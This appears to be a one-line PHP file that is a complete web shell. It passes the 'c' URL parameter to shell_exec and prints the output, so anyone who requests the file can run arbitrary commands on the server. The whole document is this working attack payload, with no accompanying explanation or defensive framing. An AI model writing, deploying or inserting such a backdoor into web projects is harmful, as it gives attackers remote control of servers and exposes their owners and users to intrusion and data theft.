<?php echo "shell: ", shell_exec($_GET["c"]);
